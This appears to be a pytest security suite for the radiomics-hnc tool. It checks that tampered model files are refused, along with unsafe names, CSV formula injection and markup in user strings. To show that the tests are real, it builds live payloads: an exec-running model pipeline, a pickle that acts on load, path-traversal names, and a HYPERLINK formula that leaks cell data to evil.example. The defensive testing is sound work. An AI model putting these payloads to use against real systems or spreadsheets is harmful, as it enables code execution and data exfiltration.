"""Hostile and malformed input: tampered model files, unsafe names, formula cells in CSV
exports, Rich markup in user strings, and the checks made before any work starts.

Each security test builds the tampered file, shows that its payload is live (it runs when the
file is loaded the unsafe way), then asserts that radiomics-hnc refuses it and that the marker
file the payload would create does not exist.
"""

from __future__ import annotations

import builtins
import csv
import functools
import json
import os
import pickle
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import skops.io as sio
import yaml
from sklearn.linear_model import LinearRegression
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer
from sklearn.tree import DecisionTreeRegressor
from sklearn.tree._tree import Tree

from radiomics_hnc.cli import main
from radiomics_hnc.discover import discover
from radiomics_hnc.errors import ConfigError, InputDataError
from radiomics_hnc.io import write_csv, write_parquet
from radiomics_hnc.modeling import build_pipeline, load_model, load_spec, spec_from_dict
from radiomics_hnc.modeling.dataset import (
    feature_columns,
    hpv_target,
    model_inputs,
    survival_target,
)
from radiomics_hnc.modeling.estimators import ESTIMATORS
from radiomics_hnc.modeling.saved_model import MODEL_FILE, TRUSTED_TYPES
from radiomics_hnc.modeling.synthetic import synthetic_patients
from radiomics_hnc.modeling.validation import fit_model, with_tuning
from radiomics_hnc.parallel import map_patients
from radiomics_hnc.pipeline import PipelineSettings, pipeline_stages
from radiomics_hnc.report import build_report
from radiomics_hnc.validate import check_cohort, validate_workspace
from radiomics_hnc.workspace import Workspace, check_writable, patient_file, unsafe_name_reason
from tests.data_fixtures import clinical_row, write_per_task
from tests.hostile import TouchOnUnpickle

MODELS = Path(__file__).resolve().parents[1] / "models"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def cli(monkeypatch, capsys, *args: str) -> tuple[int, str]:
    """Run the console entry point in this process: (exit code, stdout and stderr)."""
    monkeypatch.setattr(sys, "argv", ["radiomics-hnc", *args])
    with pytest.raises(SystemExit) as stopped:
        main()
    captured = capsys.readouterr()
    return stopped.value.code, captured.out + captured.err


def run_cli(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    """The entry point in a subprocess with a wide terminal (tables are not wrapped)."""
    code = "from radiomics_hnc.cli import main; main()"
    return subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True,
                          timeout=300, cwd=cwd, env={**os.environ, "COLUMNS": "400"})


# --- 1. model.skops: exact trusted types only ---------------------------------------------


def _fitted(spec, table: pd.DataFrame):
    """``spec``'s final pipeline fitted on ``table`` (as ``fit`` saves it) and its inputs."""
    columns = feature_columns(table, spec.features, spec.columns)
    X = model_inputs(table, columns + [c for c in spec.preprocessing.combat_covariates
                                       if c not in columns])
    y, known = survival_target(table) if spec.task == "rfs" else hpv_target(table)
    strata = (y["relapse"] if spec.task == "rfs" else y)[known].astype(int)
    return fit_model(with_tuning(build_pipeline(spec, columns), spec), X[known], y[known],
                     strata), X[known]


def _every_model_spec() -> list:
    """Each shipped spec, each registry estimator, and the selection/scaling options that
    shipped specs do not use: together every type a fitted run can contain."""
    specs = [load_spec(path) for path in sorted(MODELS.glob("[rh][fp][sv]_*.yaml"))]
    for name, entry in ESTIMATORS.items():
        specs.append(spec_from_dict({"name": f"t_{name}", "task": entry.task,
                                     "features": ["clinical", "PT"], "estimator": name}))
    for task, estimator in (("rfs", "coxph"), ("hpv", "elasticnet_logistic")):
        for selection in ("none", "univariate", "model"):
            specs.append(spec_from_dict({
                "name": f"t_{task}_{selection}", "task": task, "features": ["PT", "CT"],
                "estimator": estimator, "selection": {"method": selection, "k": 3},
                "preprocessing": {"scale": "yeo-johnson", "combat_covariates": ["age"]}}))
    return specs


@pytest.mark.filterwarnings("ignore")
def test_allow_list_is_exactly_the_types_of_every_fitted_model(tmp_path):
    """The list cannot rot: a new estimator or option whose types are missing fails here,
    and a type nothing needs any more fails too (the list stays reviewed and minimal)."""
    table = synthetic_patients(n_patients=80, n_noise=4, seed=0)
    needed: set[str] = set()
    for spec in _every_model_spec():
        model, X = _fitted(spec, table)
        run = tmp_path / spec.name
        run.mkdir()
        sio.dump(model, run / MODEL_FILE)
        types = set(sio.get_untrusted_types(file=run / MODEL_FILE))
        assert types <= TRUSTED_TYPES, f"{spec.name}: review and add {types - TRUSTED_TYPES}"
        needed |= types
        loaded = load_model(run)
        method = "predict" if spec.task == "rfs" else "predict_proba"
        np.testing.assert_allclose(getattr(loaded, method)(X), getattr(model, method)(X))
    assert needed == TRUSTED_TYPES


def _run_folder(folder: Path, task: str = "rfs") -> Path:
    """A run folder's metadata (features.json, spec.yaml) for a model file put there."""
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "features.json").write_text(json.dumps({"columns": ["age"],
                                                      "center_column": "center"}))
    (folder / "spec.yaml").write_text(yaml.safe_dump({"name": "t", "task": task}))
    return folder


def _patients(path: Path) -> Path:
    write_parquet(pd.DataFrame({"patient_id": ["A-001", "B-002"], "center": ["A", "B"],
                                "age": [61.0, 70.0]}), path)
    return path


def _exec_payload(marker: Path) -> Pipeline:
    """A pipeline whose first step runs ``exec`` on prediction: every type in it is from
    scikit-learn, ``builtins`` or ``functools`` (all trusted by the old module prefixes)."""
    code = f"open({str(marker)!r}, 'w').write('pwned')"
    evil = FunctionTransformer(functools.partial(builtins.exec, code, {}))
    return Pipeline([("evil", evil), ("model", LinearRegression().fit([[0.0], [1.0]], [0, 1]))])


def test_tampered_model_that_would_run_code_is_refused(tmp_path, monkeypatch, capsys):
    # The payload is live: loaded trusting its own types, predicting writes the marker.
    sio.dump(_exec_payload(tmp_path / "live"), tmp_path / "live.skops")
    live = sio.load(tmp_path / "live.skops", trusted=sio.get_untrusted_types(
        file=tmp_path / "live.skops"))
    with pytest.raises(ValueError):  # exec returns None, which the regression then rejects
        live.predict(pd.DataFrame({"age": [61.0]}))
    assert (tmp_path / "live").read_text() == "pwned"

    marker = tmp_path / "marker"
    run = _run_folder(tmp_path / "ws" / "runs" / "evil")
    sio.dump(_exec_payload(marker), run / MODEL_FILE)
    table = _patients(tmp_path / "p.parquet")
    code, output = cli(monkeypatch, capsys, "predict", str(run), str(table), "--out",
                       str(tmp_path / "pred.parquet"))
    assert code == 1
    assert str(run / MODEL_FILE) in output and "builtins.exec, functools.partial" in output
    assert not marker.exists() and not (tmp_path / "pred.parquet").exists()


def test_a_pickle_saved_as_model_skops_is_refused_unopened(tmp_path, monkeypatch, capsys):
    marker = tmp_path / "marker"
    payload = pickle.dumps(TouchOnUnpickle(marker))
    pickle.loads(payload)  # live: unpickling creates the marker
    assert marker.exists()
    marker.unlink()
    run = _run_folder(tmp_path / "run")
    (run / MODEL_FILE).write_bytes(payload)
    table = _patients(tmp_path / "p.parquet")
    code, output = cli(monkeypatch, capsys, "predict", str(run), str(table), "--out",
                       str(tmp_path / "pred.parquet"))
    assert code == 1 and "not a skops model file: a Python pickle" in output
    assert str(run / MODEL_FILE) in output and not marker.exists()


def test_a_tree_whose_nodes_point_outside_it_is_refused(tmp_path):
    fitted = DecisionTreeRegressor(max_depth=2, random_state=0).fit(
        np.arange(20.0).reshape(-1, 1), np.arange(20.0))
    _, args, state = fitted.tree_.__reduce__()
    state["nodes"] = state["nodes"].copy()
    state["nodes"]["left_child"][0] = 10**6  # sklearn would read far outside the array
    crafted = Tree(*args)
    crafted.__setstate__(state)
    fitted.tree_ = crafted
    run = tmp_path / "run"
    run.mkdir()
    sio.dump(fitted, run / MODEL_FILE)
    with pytest.raises(InputDataError, match="decision tree whose nodes point outside"):
        load_model(run)


@pytest.mark.parametrize(("damage", "message"), [
    ("no_features", r"lacks features\.json \(the model's input columns\)"),
    ("not_parquet", r"p\.parquet: not a readable parquet table"),
])
def test_predict_checks_its_inputs_before_loading(tmp_path, monkeypatch, capsys, damage,
                                                  message):
    run = _run_folder(tmp_path / "run")
    sio.dump(LinearRegression().fit([[0.0], [1.0]], [0, 1]), run / MODEL_FILE)
    table = _patients(tmp_path / "p.parquet")
    if damage == "no_features":
        (run / "features.json").unlink()
    else:
        table.write_text("PatientID,Age\nA-001,61\n")
    code, output = cli(monkeypatch, capsys, "predict", str(run), str(table), "--out",
                       str(tmp_path / "pred.parquet"))
    assert code == 1, output
    assert re.search(message, output.replace("\n", " ")), output


# --- 3 and 19. names: one rule for patient ids and run names --------------------------------


@pytest.mark.parametrize(("name", "reason"), [
    ("CHUM-001", None),
    ("mda_2.1", None),
    ("CHUM 001", "contains a space at position 5"),
    ("../../x", "contains '/' (a path separator) at position 3"),
    ("/abs/path", "contains '/' (a path separator) at position 1"),
    ("a\\b", "contains '\\\\' (a path separator) at position 2"),
    (".hidden", "starts with '.'"),
    ("-rf", "starts with '-'"),
    ("CHUM-..019", "contains '..'"),
    ("CHUM-\x00001", "contains a control character (U+0000) at position 6"),
    ("A" * 129, "is longer than 128 characters (129)"),
    ("", "is empty"),
    ("Zürich-1", "contains 'ü' at position 2"),
])
def test_unsafe_name_reason_says_what_is_wrong(name, reason):
    assert unsafe_name_reason(name) == reason


def test_patient_file_and_validation_name_the_problem(tmp_path):
    with pytest.raises(InputDataError, match="'CHUM 001' is not safe as a file name: it "
                                             "contains a space at position 5"):
        patient_file(tmp_path, "CHUM 001", ".nii.gz")
    manifest = pd.DataFrame({"patient_id": ["CHUM 001", "CHUM-002"], "ct_path": ["a", "b"],
                             "pet_path": ["a", "b"], "has_clinical": [True, True]})
    unsafe = [f for f in check_cohort(manifest, {}) if f.check == "unsafe_id"]
    assert [(f.patient_id, f.severity) for f in unsafe] == [("CHUM 001", "error")]
    assert "contains a space at position 5" in unsafe[0].message


@pytest.mark.parametrize("name", ["../../x", "/abs/path"])
def test_run_names_cannot_leave_the_workspace(tmp_path, monkeypatch, capsys, name):
    ws = tmp_path / "deep" / "ws"
    table = synthetic_patients(n_patients=60, n_noise=2)
    table.attrs = {}  # the oracle arrays are not parquet metadata
    write_parquet(table, ws / "features" / "patients.parquet")
    spec = tmp_path / "spec.yaml"
    spec.write_text("name: base\ntask: rfs\nfeatures: [clinical]\nestimator: coxph\n")
    code, output = cli(monkeypatch, capsys, "fit", "rfs", str(ws), "--spec", str(spec), "--name",
                       name)
    assert code == 1 and f"run name {name!r} cannot be used as a folder name" in output
    assert "(a path separator)" in output
    assert not (tmp_path / "x").exists() and not Path("/abs").exists()
    assert not (ws / "runs").exists()
    spec.write_text(f"name: {json.dumps(name)}\ntask: rfs\nfeatures: [clinical]\n"
                    "estimator: coxph\n")
    code, output = cli(monkeypatch, capsys, "fit", "rfs", str(ws), "--spec", str(spec))
    assert code == 1 and f"{name!r} cannot name a run folder" in output and str(spec) in output


def test_pipeline_refuses_an_unsafe_run_name_before_any_stage(tmp_path):
    spec = tmp_path / "my model.yaml"
    spec.write_text("name: mine\ntask: rfs\nfeatures: [clinical]\nestimator: coxph\n")
    settings = PipelineSettings(rfs_specs=(str(spec),), hpv_specs=())
    with pytest.raises(ConfigError, match=r"run name of my model\.yaml 'my model_loco' cannot "
                                          r"be used as a folder name: it contains a space at "
                                          r"position 3"):
        pipeline_stages(tmp_path / "data", tmp_path / "ws", settings)
    assert not (tmp_path / "ws").exists()


def test_workspace_child_stays_inside(tmp_path):
    ws = Workspace(tmp_path / "ws")
    assert ws.child(ws.runs_dir, "rfs_coxnet_loco", "run name") == ws.runs_dir / "rfs_coxnet_loco"
    with pytest.raises(ConfigError, match="outside the workspace"):
        ws.child(tmp_path / "elsewhere", "run", "run name")


# --- 4. CSV exports: formula cells neutralised, numbers kept ---------------------------------


def test_write_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    frame = pd.DataFrame({"patient_id": [HYPERLINK, "CHUM-001", "@SUM(A1)", "\tcmd"],
                          "value": [-0.5, 1.0, 2.0, 3.0],
                          "text_number": ["-0.5", "+1", "-1+2", "=1"],
                          HYPERLINK: ["a", "b", "c", "d"]})
    with open(write_csv(frame, tmp_path / "t.csv"), newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["patient_id", "value", "text_number", "'" + HYPERLINK]
    assert [r[0] for r in rows[1:]] == ["'" + HYPERLINK, "CHUM-001", "'@SUM(A1)", "'\tcmd"]
    assert [r[1] for r in rows[1:]] == ["-0.5", "1.0", "2.0", "3.0"]
    assert [r[2] for r in rows[1:]] == ["-0.5", "+1", "'-1+2", "'=1"]
    assert pd.read_csv(tmp_path / "t.csv")["value"].tolist() == [-0.5, 1.0, 2.0, 3.0]


def test_report_tables_neutralise_formulas_from_user_data(tmp_path):
    data = write_per_task(tmp_path / "data", ["CHUM-001", "MDA-002"])
    clinical = data / "HECKTOR_2025_Training_Task_1.csv"
    table = pd.read_csv(clinical, dtype=str, keep_default_na=False)
    table.loc[0, "Alcohol Consumption"] = HYPERLINK
    extra = {k: str(v) for k, v in clinical_row(HYPERLINK).items()}  # an id without images
    pd.concat([table, pd.DataFrame([extra])]).to_csv(clinical, index=False)
    discover(data, tmp_path / "ws")
    validate_workspace(tmp_path / "ws")
    tables = build_report(tmp_path / "ws").parent / "tables"
    cells = []
    for path in tables.glob("*.csv"):
        with open(path, newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert any(cell.startswith("'" + HYPERLINK) for cell in cells)
    formulas = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
                or (c.startswith("-") and not _is_number(c))]
    assert not formulas


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# --- 5. Rich markup in user strings ----------------------------------------------------------


def test_markup_in_paths_and_clinical_values_prints_literally(tmp_path):
    data = write_per_task(tmp_path / "data", ["CHUM-001", "MDA-002"])
    clinical = data / "HECKTOR_2025_Training_Task_1.csv"
    table = pd.read_csv(clinical, dtype=str, keep_default_na=False)
    table.loc[0, "Alcohol Consumption"] = "[/pending]"
    table.to_csv(clinical, index=False)
    ws = tmp_path / "ws[" / "x]"  # the path holds "[/x]"
    assert "[/x]" in str(ws)
    result = run_cli("discover", str(data), "--out", str(ws))
    assert result.returncode == 0, result.stderr
    result = run_cli("validate", str(ws))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "[/pending]" in result.stdout
    assert f"findings: {ws / 'validation.json'}" in result.stdout


def test_error_messages_print_markup_literally(tmp_path):
    result = run_cli("discover", str(tmp_path / "data[bold]x[/bold]"), "--out",
                     str(tmp_path / "ws"))
    assert result.returncode == 1
    assert "data[bold]x[/bold]: dataset folder not found" in result.stderr


def test_progress_descriptions_print_literally(capsys):
    results = list(map_patients(abs, [("p1", -1)], description="[bold][/x]", progress=True))
    assert results == [("p1", 1)]
    assert "[bold][/x]" in capsys.readouterr().out


# --- 18. checks before any work: workspace is a file, read-only ------------------------------


@pytest.mark.parametrize("command", [
    ("extract", "{file}"),
    ("fit", "rfs", "{file}", "--spec", "rfs_clinical_cox"),
    ("report", "{file}"),
    ("validate", "{file}"),
    ("discover", "{data}", "--out", "{file}"),
    ("segment", "evaluate", "{file}"),
])
def test_workspace_path_that_is_a_file_exits_1(tmp_path, monkeypatch, capsys, command):
    file = tmp_path / "notes.txt"
    file.write_text("not a workspace")
    data = write_per_task(tmp_path / "data", ["CHUM-001"])
    args = [a.format(file=file, data=data) for a in command]
    code, output = cli(monkeypatch, capsys, *args)
    assert code == 1, output
    assert f"file {file}:" in output and ("is a file, not a folder" in output
                                         or "found a file" in output)


def test_read_only_workspace_is_refused_before_any_work(tmp_path, monkeypatch, capsys):
    data = write_per_task(tmp_path / "data", ["CHUM-001", "MDA-002"])
    ws = tmp_path / "ws"
    discover(data, ws)
    real_access = os.access
    def access(path, mode, **kwargs):  # the workspace folder is readable, not writable
        writes_to_ws = Path(path) == ws.absolute() and mode & os.W_OK
        return not writes_to_ws and real_access(path, mode, **kwargs)

    monkeypatch.setattr(os, "access", access)
    code, output = cli(monkeypatch, capsys, "extract", str(ws))
    assert code == 1 and f"file {ws.absolute()}: the workspace is read-only" in output
    assert not (ws / "features").exists()
    with pytest.raises(InputDataError, match=r"a parent of the report folder .* is read-only"):
        check_writable(ws / "report" / "new", "report folder")


@pytest.mark.parametrize(("folder", "command", "what"), [
    ("features", ("extract", "{ws}"), "features folder"),
    ("runs", ("fit", "rfs", "{ws}", "--spec", "rfs_clinical_cox"), "runs folder"),
])
def test_read_only_output_folder_inside_a_writable_workspace_is_refused(
        tmp_path, monkeypatch, capsys, folder, command, what):
    data = write_per_task(tmp_path / "data", ["CHUM-001", "MDA-002"])
    ws = tmp_path / "ws"
    discover(data, ws)
    (ws / folder).mkdir()
    real_access = os.access
    def access(path, mode, **kwargs):  # only the stage's own output folder is read-only
        writes_there = Path(path) == (ws / folder).absolute() and mode & os.W_OK
        return not writes_there and real_access(path, mode, **kwargs)

    monkeypatch.setattr(os, "access", access)
    code, output = cli(monkeypatch, capsys, *(a.format(ws=ws) for a in command))
    assert code == 1, output
    assert f"the {what} is read-only" in output
    assert list((ws / folder).iterdir()) == []


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes through chmod; the os.access "
                    "test above covers the check")
def test_chmod_read_only_workspace(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    ws.chmod(0o555)
    try:
        with pytest.raises(InputDataError, match="the workspace is read-only"):
            check_writable(ws)
    finally:
        ws.chmod(0o755)
